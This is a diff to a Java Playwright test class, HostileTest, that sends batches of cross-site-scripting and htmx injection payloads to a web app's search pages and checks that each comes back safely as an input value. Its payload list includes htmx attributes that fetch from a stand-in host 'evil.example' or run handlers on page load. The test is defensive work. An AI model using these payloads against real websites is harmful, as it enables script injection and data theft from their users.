@@ -3,6 +3,7 @@ package org.parallax.browser;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import com.microsoft.playwright.Locator;
 import com.microsoft.playwright.Page;
 
 import org.junit.jupiter.api.Test;
@@ -66,6 +67,9 @@ class HostileTest {
                     "<div hx-get=http://evil.example/ hx-trigger=load>",
                     "<div hx-on::load=@>",
                     "<x data-hx-get=/accounts data-hx-trigger=load>");
+
+    /** What may be asked for, in characters. */
+    private static final int LONGEST = 200;
 
     @TempDir
     @SuppressWarnings("NullAway.Init") // by JUnit
@@ -134,10 +138,11 @@ class HostileTest {
         try (Program program = Program.serving(own, Reports.WEEK);
                 Studio studio = new Studio(program.address())) {
             studio.look(page -> {
-                for (int i = 0; i < ATTACKS.size(); i++) {
-                    String asked = URLEncoder.encode(attack(i), StandardCharsets.UTF_8);
+                for (String attacks : asked()) {
+                    String asked = URLEncoder.encode(attacks, StandardCharsets.UTF_8);
                     for (String room : List.of("/?q=", "/actors?q=", "/places?q=")) {
-                        assertEquals(200, page.navigate(room + asked).status(), attack(i));
+                        assertEquals(200, page.navigate(room + asked).status(), attacks);
+                        assertTrue(isIn(page.locator("input[name=q]"), attacks), room + attacks);
                     }
                 }
                 page.navigate("/");
@@ -150,6 +155,33 @@ class HostileTest {
             });
             assertEquals(List.of(), studio.complaints());
         }
+    }
+
+    /**
+     * As many at once as may be asked for: a page that is open to one is open to it among others.
+     * What is an address stands alone, as it is one at the beginning only.
+     */
+    private static List<String> asked() {
+        List<String> asked = new ArrayList<>();
+        String several = "";
+        for (int i = 0; i < ATTACKS.size(); i++) {
+            String attack = ATTACKS.get(i).replace("@", "alert(%d)".formatted(i));
+            if (attack.matches("(javascript|data):.*")) {
+                asked.add(attack);
+            } else if (several.length() + attack.length() < LONGEST) {
+                several += attack;
+            } else {
+                asked.add(several);
+                several = attack;
+            }
+        }
+        asked.add(several);
+        return asked;
+    }
+
+    private static boolean isIn(Locator fields, String text) {
+        String compare = "(all, text) => all.some(it => it.value === text)";
+        return fields.evaluateAll(compare, text).equals(true);
     }
 
     private static List<String> incidents(Page page) {
